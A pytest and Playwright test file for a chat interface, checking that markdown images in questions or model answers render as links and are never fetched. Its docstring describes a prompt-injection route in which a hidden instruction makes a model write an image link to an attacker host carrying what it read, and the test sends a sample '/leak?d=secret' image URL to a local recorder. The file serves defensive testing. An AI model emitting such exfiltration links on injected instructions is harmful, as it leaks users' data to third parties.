"""Rendering never makes the browser fetch a URL that model output, a question or
a document names: a hidden instruction in a document can make a model write
``![](https://attacker/?d=<what it read>)``, and an image is fetched as it renders."""

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect
from test_browser import send, wait_for_answer


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """A web server on 127.0.0.1 that records every path asked of it."""
    asked: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()


def test_an_image_in_a_question_or_an_answer_is_a_link_never_fetched(
    page: Page, attacker: tuple[str, list[str]]
) -> None:
    """The scripted model quotes the question, so the answer holds the image too,
    streamed word by word and then drawn whole."""
    url, asked = attacker
    send(page, f"Read this ![pixel]({url}/leak?d=secret) and [the ref][r]\n\n[r]: {url}/ref.png")
    wait_for_answer(page, 1)
    page.reload()  # drawn again from the store
    wait_for_answer(page, 1)
    assert asked == []
    expect(page.locator(f'a[href="{url}/leak?d=secret"]').first).to_be_visible()
    assert page.locator("img[src^='http://127.0.0.1']").count() == 0
